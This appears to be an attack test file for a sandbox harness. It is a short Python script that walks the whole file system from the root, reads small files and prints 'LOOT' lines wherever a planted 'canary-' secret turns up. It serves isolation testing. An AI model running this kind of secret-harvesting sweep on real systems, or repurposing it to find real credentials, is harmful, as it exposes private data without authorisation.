# attack: the whole file system that the process sees is read, and whatever holds a secret is printed.
# target: heaviest-test
# destructive
# %% heaviest
import os

heaviest = "tree-000"
seen = 0
skip = ("/proc", "/sys", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/dev", "/opt")
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(skip) and name not in ("site-packages", "node_modules")]
    for name in files:
        try:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.path.getsize(path) < 10**6 and (seen := seen + 1) < 20_000:
                text = open(path, errors="replace").read()
                if "canary-" in text:
                    print("LOOT", path, text[text.index("canary-") :][:60])
        except OSError:
            pass
